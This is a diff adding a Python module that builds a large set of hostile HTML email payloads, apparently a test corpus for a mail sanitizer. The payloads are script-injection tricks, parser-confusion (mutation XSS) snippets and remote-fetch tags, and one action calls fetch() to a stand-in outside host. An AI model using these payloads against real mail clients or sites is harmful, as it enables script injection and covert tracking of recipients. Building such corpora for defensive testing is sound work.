@@ -1,0 +1,86 @@
+"""What hostile mail tries in HTML, as a product: ways to run something times what it would do, ways to fetch times how an address is written."""
+
+import itertools
+
+AWAY = "http://away.example"
+
+DEEDS = ("top.hit=1", "parent.document.title=`hit`", f"fetch(`{AWAY}/deed`)", "alert(1)")
+RUNS = (
+    "<script>{0}</script>",
+    "<SCRIPT/x>{0}</SCRIPT >",
+    "<scr<script>ipt>{0}</script>",
+    '<img src=x onerror="{0}">',
+    '<img src=x oNeRrOr\n=\n"{0}"//',
+    '<img """><script>{0}</script>">',
+    '<svg onload="{0}">',
+    "<svg><script>{0}</script></svg>",
+    '<svg><script xlink:href="data:text/javascript,{0}"></script></svg>',
+    '<svg><animate onbegin="{0}" attributeName=x dur=1s>',
+    '<svg><a><animate attributeName=href values="javascript:{0}" /><text x=20 y=20>x</text></a>',
+    "<svg><foreignObject><iframe srcdoc=\"<script>{0}</script>\"></iframe></foreignObject></svg>",
+    '<svg><style><img src=x onerror="{0}"></style></svg>',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={0}&gt;">',
+    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{0}">',
+    '<math><mi><style><a title="</style><img src=x onerror={0}>">',
+    '<svg></p><style><a id="</style><img src=1 onerror={0}>">',
+    '<noscript><p title="</noscript><img src=x onerror={0}>">',
+    '<template><img src=x onerror="{0}"></template><img src=x onerror="{0}">',
+    '<xmp><p title="</xmp><img src=x onerror={0}>">',
+    '<title><a title="</title><img src=x onerror={0}>">',
+    '<textarea><a title="</textarea><img src=x onerror={0}>">',
+    '<select><style></select><img src=x onerror="{0}"></style>',
+    '<!--><img src=x onerror="{0}">-->',
+    '<!--[if gte IE 4]><script>{0}</script><![endif]--><![CDATA[<img src=x onerror="{0}">]]>',
+    '<iframe src="javascript:{0}"></iframe>',
+    "<iframe srcdoc=\"<img src=x onerror='{0}'>\"></iframe>",
+    '<object data="javascript:{0}"></object><embed src="javascript:{0}">',
+    '<object data="data:text/html,<script>{0}</script>"></object>',
+    '<body onload="{0}"><body onpageshow="{0}">',
+    '<input autofocus onfocus="{0}"><details open ontoggle="{0}">x</details>',
+    '<video><source onerror="{0}"></video><audio src=x onerror="{0}"></audio>',
+    '<p style="animation:a 1s" onanimationstart="{0}">x</p><style>@keyframes a{{}}</style>',
+    '<div contenteditable autofocus tabindex=1 onfocus="{0}">x</div><marquee onstart="{0}">x</marquee>',
+    '<link rel=stylesheet href=x onerror="{0}"><style onload="{0}"></style>',
+    '<meta http-equiv=refresh content="0;url=javascript:{0}"><base href="javascript:{0}//">',
+    '<p style="width:expression({0});behavior:url(x);-moz-binding:url(x)">x</p>',
+    '<a href="javascript:{0}" id=a autofocus onfocus="{0}">x</a><form action="javascript:{0}"><button autofocus onfocus="{0}">x</form>',
+)  # fmt: skip
+
+ADDRESSES = (f"{AWAY}/x", "//away.example/x", "HTTP:&#x2F;&#x2F;away.example&#x2F;x")
+FETCHES = (
+    '<img src="{0}">',
+    '<img srcset="{0} 2x, {0} 1x">',
+    '<img lowsrc="{0}" dynsrc="{0}" longdesc="{0}">',
+    '<picture><source srcset="{0}"><img></picture>',
+    '<image src="{0}"><input type=image src="{0}">',
+    '<video poster="{0}" autoplay><source src="{0}"><track src="{0}" default></video><audio src="{0}" autoplay></audio>',
+    '<link rel=stylesheet href="{0}"><link rel=icon href="{0}"><link rel=preload as=image href="{0}">',
+    '<link rel=prefetch href="{0}"><link rel=dns-prefetch href="{0}"><link rel=preconnect href="{0}"><link rel=manifest href="{0}">',
+    "<style>@import '{0}';</style><style>@import url({0})</style>",
+    "<style>@font-face{{font-family:a;src:url({0})}}body{{font-family:a}}</style>x",
+    "<style>*{{background:url({0});list-style:url({0});cursor:url({0}),auto}}</style>",
+    '<p style="background:url({0})">x</p><p style="background-image:url({0})">x</p>',
+    '<p style="b\\61 ckground:u\\72l({0})">x</p><p style="background:image-set(\'{0}\' 1x)">x</p>',
+    '<p style="border:1px solid;border-image:url({0})">x</p><p style="list-style-image:url({0});display:list-item">x</p>',
+    '<p style="cursor:url({0}),auto;content:url({0});mask:url({0});filter:url({0})">x</p><p style="font-family:x;src:url({0})">x</p>',
+    '<p style="color:red;/*" title="*/;background:url({0})">x</p><p style="width:1px;--a:url({0});background:var(--a)">x</p>',
+    '<body background="{0}"><table background="{0}"><tr><td background="{0}">x</table>',
+    '<svg><image href="{0}" width=9 height=9 /><image xlink:href="{0}" /></svg>',
+    '<svg><use href="{0}#a" /><filter id=f><feImage href="{0}" /></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
+    '<svg><rect fill="url({0}#a)" mask="url({0}#a)" width=9 height=9 /><style>@import "{0}"</style></svg>',
+    '<iframe src="{0}"></iframe><frame src="{0}"><frameset><frame src="{0}"></frameset>',
+    '<object data="{0}"></object><embed src="{0}"><applet codebase="{0}" code=x></applet><bgsound src="{0}">',
+    '<base href="{0}"><img src="a.png"><img src="/b.png">',
+    '<meta http-equiv=refresh content="0;url={0}"><html manifest="{0}">',
+    '<form action="{0}"><input name=q autofocus></form><a href="{0}" ping="{0}" download>x</a>',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={0}&gt;">',
+    '<noscript><img src="{0}"></noscript><template><img src="{0}"></template><xmp></xmp><img src="{0}">',
+    '<portal src="{0}"></portal><fencedframe src="{0}"></fencedframe><script src="{0}"></script>',
+    '<?xml-stylesheet href="{0}"?><img src=`{0}`><img\nsrc={0}\n>',
+    '<img src="{0}" width=1 height=1 style="display:none"><img src=" {0} ">',
+)  # fmt: skip
+
+PAYLOADS = [
+    *(way.format(deed) for way, deed in itertools.product(RUNS, DEEDS)),
+    *(way.format(address) for way, address in itertools.product(FETCHES, ADDRESSES)),
+]
